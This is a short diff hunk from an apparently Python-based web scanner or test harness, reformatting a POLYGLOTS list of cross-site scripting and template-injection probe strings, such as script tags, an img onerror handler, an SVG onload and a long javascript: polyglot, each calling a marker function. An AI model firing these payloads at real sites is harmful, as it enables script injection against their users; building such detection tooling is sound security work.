@@ -14,8 +14,10 @@ POLYGLOTS = [
     f"<script>{MARK}()</script>",
     f'"><img src=x onerror={MARK}()>',
     f"'-{MARK}()-'",
-    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={MARK}() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
-    f"\\x3csVg/<sVg/oNloAd={MARK}()//>\\x3e",
+    (
+        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={MARK}() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
+        f"\\x3csVg/<sVg/oNloAd={MARK}()//>\\x3e"
+    ),
     f"</title><svg onload={MARK}()>",
     f'<a href="javascript:{MARK}()">x</a>',
     f"{{{{7*7}}}}{{% debug %}}{MARK}",
